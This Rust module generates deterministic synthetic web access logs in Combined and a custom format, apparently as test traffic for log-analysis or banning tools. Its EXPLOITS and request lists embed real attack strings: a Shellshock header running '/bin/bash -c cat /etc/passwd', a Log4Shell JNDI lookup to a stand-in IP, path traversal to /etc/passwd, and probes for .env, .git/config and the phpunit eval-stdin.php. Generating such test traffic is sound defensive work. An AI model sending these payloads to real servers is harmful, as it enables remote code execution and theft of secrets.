//! Access logs as a web server with many visitors writes them, the same for the same seed.
//!
//! Most clients are browsers: a page, then its pictures and style sheets, many of them 304. A few are crawlers and feed
//! readers, one in fifty is an attacker. How often a client comes is skewed as it is in real logs (Zipf): the busiest one
//! writes thousands of lines, most write a page's worth.

use std::io::{self, Write};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

/// How lines are written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Format {
    /// httpd's own.
    Combined,
    /// The recommended one.
    F2b,
}

/// Who asks how often.
#[derive(Clone, Copy, Debug)]
pub enum Spread {
    /// As in real logs.
    Zipf,
    /// Everybody in turn: after as many lines as there are clients, each was seen once.
    Even,
}

/// What to generate.
#[derive(Clone, Copy, Debug)]
pub struct Traffic {
    pub seed: u64,
    pub lines: usize,
    pub clients: usize,
    /// The first client's number: another number, other addresses.
    pub first_client: usize,
    pub spread: Spread,
    pub format: Format,
}

impl Traffic {
    /// A day at a busy site.
    pub fn day(format: Format) -> Self {
        Self {
            seed: 7,
            lines: 1_000_000,
            clients: 50_000,
            first_client: 0,
            spread: Spread::Zipf,
            format,
        }
    }

    /// All lines, one after the other in memory.
    pub fn bytes(&self) -> Vec<u8> {
        let mut all = Vec::new();
        self.each(|line| all.extend_from_slice(line));
        all
    }

    fn each(&self, mut take: impl FnMut(&[u8])) {
        let mut random = Random(self.seed);
        let mut sessions = Sessions::new(match self.spread {
            Spread::Zipf => self.clients,
            Spread::Even => 0,
        });
        let mut text = Vec::new();
        // 2026-03-02 00:00:00 UTC and fifty lines a second.
        let mut micros: u64 = 1_772_409_600_000_000;
        for n in 0..self.lines {
            micros += random.below(40_000);
            let client = match self.spread {
                Spread::Zipf => sessions.pick(&mut random),
                Spread::Even => n % self.clients,
            };
            let client = Client::new(self.seed, self.first_client + client);
            let request = client.request(&mut random);
            text.clear();
            match self.format {
                Format::Combined => request.combined(client.address, micros, &mut text),
                Format::F2b => request.f2b(client.address, micros, &mut random, &mut text),
            }
            take(&text);
        }
    }
}

/// SplitMix64 (Steele, Lea, Flood 2014): small, and good enough for traffic.
pub struct Random(pub u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    pub fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    pub fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.below(from.len() as u64) as usize]
    }
}

/// Who is there at the moment. Requests come in bursts: a page, then what belongs to it, so that of all clients of a day
/// some two hundred take turns at any time. Half of them are here for the first time, the others come back (Zipf).
struct Sessions {
    ranks: Ranks,
    newcomers: usize,
    /// Client, and how many requests are left.
    now: Vec<(usize, u64)>,
}

impl Sessions {
    const AT_ONCE: usize = 200;
    const REQUESTS_MAX: u64 = 19;

    fn new(clients: usize) -> Self {
        Self {
            ranks: Ranks::new(clients),
            newcomers: 0,
            now: vec![(0, 0); Self::AT_ONCE],
        }
    }

    fn pick(&mut self, random: &mut Random) -> usize {
        let (client, left) = &mut self.now[random.below(Self::AT_ONCE as u64) as usize];
        if *left == 0 {
            *client = if random.below(2) == 0 {
                self.newcomers += 1;
                (self.newcomers - 1) % self.ranks.0.len()
            } else {
                self.ranks.pick(random)
            };
            *left = 1 + random.below(Self::REQUESTS_MAX);
        }
        *left -= 1;
        *client
    }
}

/// Zipf's law with exponent 1, flattened at the top: client of rank r has a share of 1 / (r + 20).
struct Ranks(Vec<f64>);

impl Ranks {
    fn new(clients: usize) -> Self {
        let mut sum = 0.0;
        let shares = (0..clients).map(|rank| {
            sum += 1.0 / (rank as f64 + 20.0);
            sum
        });
        Self(shares.collect())
    }

    fn pick(&self, random: &mut Random) -> usize {
        let all = self.0.last().copied().unwrap_or_default();
        let point = random.next() as f64 / u64::MAX as f64 * all;
        self.0
            .partition_point(|&sum| sum < point)
            .min(self.0.len() - 1)
    }
}

#[derive(Clone, Copy)]
enum Kind {
    Browser,
    Crawler,
    FeedReader,
    Scanner,
    Guesser,
    Flood,
    Exploit,
}

struct Client {
    address: IpAddr,
    agent: &'static str,
    kind: Kind,
}

impl Client {
    /// The same number is always the same client. Numbers below 2^24 have different addresses (different /64).
    fn new(seed: u64, number: usize) -> Self {
        let mut random = Random(seed ^ (number as u64).wrapping_mul(0x2545_f491_4f6c_dd1d));
        let kind = match random.below(1000) {
            0..=7 => Kind::Scanner,
            8..=13 => Kind::Guesser,
            14..=15 => Kind::Flood,
            16..=19 => Kind::Exploit,
            20..=39 => Kind::Crawler,
            40..=59 => Kind::FeedReader,
            _ => Kind::Browser,
        };
        // An odd factor permutes the numbers below 2^24, so that neighbours are strewn over the networks.
        let strewn = (number as u32).wrapping_mul(0x9e_3779) & 0xff_ffff;
        let [_, b, c, d] = strewn.to_be_bytes();
        let address = if random.below(100) < 15 {
            IpAddr::V6(Ipv6Addr::new(
                0x2a02,
                0x0908,
                u16::from(b),
                u16::from_be_bytes([c, d]),
                random.next() as u16,
                random.next() as u16,
                random.next() as u16,
                random.next() as u16,
            ))
        } else {
            const NETWORKS: [u8; 8] = [5, 31, 46, 78, 91, 109, 188, 213];
            // Clients that share the last three bytes do not exist, so the first may be anything.
            IpAddr::V4(Ipv4Addr::new(NETWORKS[random.below(8) as usize], b, c, d))
        };
        let agent = match kind {
            Kind::Browser => random.pick(&BROWSERS),
            Kind::Crawler => random.pick(&CRAWLERS),
            Kind::FeedReader => random.pick(&FEED_READERS),
            Kind::Scanner | Kind::Guesser | Kind::Flood => random.pick(&TOOLS),
            Kind::Exploit => random.pick(&EXPLOITS),
        };
        Self {
            address,
            agent,
            kind,
        }
    }

    fn request(&self, random: &mut Random) -> Request {
        let mut request = Request {
            method: "GET",
            target: String::new(),
            status: 200,
            bytes: 500 + random.below(60_000),
            user: "-",
            referer: String::from("-"),
            agent: self.agent,
        };
        match self.kind {
            Kind::Browser => request.of_browser(random),
            Kind::Crawler => {
                request.target = page(random);
                request.status = [200, 200, 200, 200, 301, 304, 404][random.below(7) as usize];
            }
            Kind::FeedReader => {
                "/feed/".clone_into(&mut request.target);
                request.status = [304, 304, 304, 200][random.below(4) as usize];
            }
            Kind::Scanner => {
                request.target = format!("{}{}", random.pick(&MISSING), random.below(4));
                request.status = 404;
            }
            Kind::Guesser => {
                request.method = "POST";
                "/private/login".clone_into(&mut request.target);
                request.user = random.pick(&["admin", "root", "webmaster", "test"]);
                request.status = 401;
            }
            Kind::Flood => request.target = format!("/search?q={}", random.below(100_000)),
            Kind::Exploit => {
                random
                    .pick(&[
                        "/.env",
                        "/cgi-bin/status",
                        "/.git/config",
                        "/index.php?page=../../etc/passwd",
                    ])
                    .clone_into(&mut request.target);
                request.status = 404;
            }
        }
        request
    }
}

fn page(random: &mut Random) -> String {
    let section = random.pick(&[
        "news",
        "products",
        "blog",
        "forum/thread",
        "wiki",
        "shop/item",
    ]);
    let number = random.below(20_000);
    match random.below(5) {
        0 => format!("/{section}/{number}?page={}&sort=date", random.below(20)),
        1 => format!("/{section}/"),
        _ => format!("/{section}/{number}-a-title-in-the-address.html"),
    }
}

struct Request {
    method: &'static str,
    target: String,
    status: u16,
    bytes: u64,
    user: &'static str,
    referer: String,
    agent: &'static str,
}

impl Request {
    fn of_browser(&mut self, random: &mut Random) {
        let die = random.below(10_000);
        if die < 10 {
            // A speculative connection that was not needed.
            (self.method, self.status, self.bytes, self.agent) = ("", 408, 0, "-");
        } else if die < 2_500 {
            self.target = page(random);
            self.referer = match random.below(3) {
                0 => "-".to_owned(),
                1 => "https://www.google.com/".to_owned(),
                _ => format!("https://www.example.org{}", page(random)),
            };
            self.status = match random.below(100) {
                0..=2 => 404,
                3..=6 => 302,
                7..=8 => 301,
                _ => 200,
            };
            if random.below(20) == 0 {
                self.method = "POST";
            }
        } else {
            let (folder, ending) = [
                ("images", "jpg"),
                ("images", "png"),
                ("images", "webp"),
                ("assets/css", "css"),
                ("assets/js", "js"),
                ("fonts", "woff2"),
            ][random.below(6) as usize];
            let version = random.below(900);
            self.target = format!(
                "/{folder}/{}-{version}.{ending}",
                random.pick(&["main", "header", "teaser", "thumb"])
            );
            self.referer = format!("https://www.example.org{}", page(random));
            self.status = match random.below(100) {
                0..=17 => 304,
                18 => 404,
                19 => 206,
                _ => 200,
            };
            if self.status == 304 {
                self.bytes = 0;
            }
        }
        // What campaigns and search forms leave behind.
        if random.below(1000) == 0 {
            let length = 400 + random.below(3000) as usize;
            self.target.push_str("?utm_source=");
            self.target.extend(std::iter::repeat_n('x', length));
        }
    }

    /// `%r`
    fn line(&self, text: &mut Vec<u8>) -> io::Result<()> {
        if self.method.is_empty() {
            text.write_all(b"-")
        } else {
            write!(text, "{} {} HTTP/1.1", self.method, self.target)
        }
    }

    fn combined(&self, address: IpAddr, micros: u64, text: &mut Vec<u8>) {
        let seconds = micros / 1_000_000 % 86_400;
        write!(
            text,
            "{address} - {} [02/Mar/2026:{:02}:{:02}:{:02} +0000] \"",
            self.user,
            seconds / 3600,
            seconds / 60 % 60,
            seconds % 60,
        )
        .and_then(|()| self.line(text))
        .and_then(|()| match self.bytes {
            0 => write!(text, "\" {} -", self.status),
            bytes => write!(text, "\" {} {bytes}", self.status),
        })
        .and_then(|()| writeln!(text, " \"{}\" \"{}\"", self.referer, self.agent))
        .expect("memory takes all");
    }

    fn f2b(&self, address: IpAddr, micros: u64, random: &mut Random, text: &mut Vec<u8>) {
        let token = format!("f2b:{micros}:7f2b4c{:06x}", random.below(64) * 0x1000);
        write!(
            text,
            "{token} {address} {address} www.example.org {} {} {} \"{}\" \"",
            self.status,
            self.bytes,
            200 + random.below(90_000),
            self.user,
        )
        .and_then(|()| self.line(text))
        .and_then(|()| writeln!(text, "\" \"{}\" \"{}\" {token}", self.referer, self.agent))
        .expect("memory takes all");
    }
}

const BROWSERS: [&str; 10] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36 Edg/140.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPad; CPU OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.7 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36",
];
const CRAWLERS: [&str; 4] = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
];
const FEED_READERS: [&str; 3] = [
    "FreshRSS/1.27.0 (Linux; https://freshrss.org)",
    "Tiny Tiny RSS/24.09 (https://tt-rss.org/)",
    "NetNewsWire (RSS Reader; https://netnewswire.com/)",
];
const TOOLS: [&str; 5] = [
    "python-requests/2.32.3",
    "curl/8.14.1",
    "Go-http-client/1.1",
    "Mozilla/5.0 zgrab/0.x",
    "-",
];
const EXPLOITS: [&str; 3] = [
    "() { :; }; /bin/bash -c 'cat /etc/passwd'",
    "${jndi:ldap://203.0.113.9:1389/a}",
    "Mozilla/5.0 (compatible)",
];
const MISSING: [&str; 12] = [
    "/wp-login.php?v=",
    "/xmlrpc.php?v=",
    "/phpmyadmin/index.php/",
    "/admin",
    "/administrator/",
    "/backup.zip.",
    "/old/",
    "/test.php.",
    "/shell.php.",
    "/vendor/phpunit/src/Util/PHP/eval-stdin.php.",
    "/actuator/health",
    "/solr/admin/info/system",
];
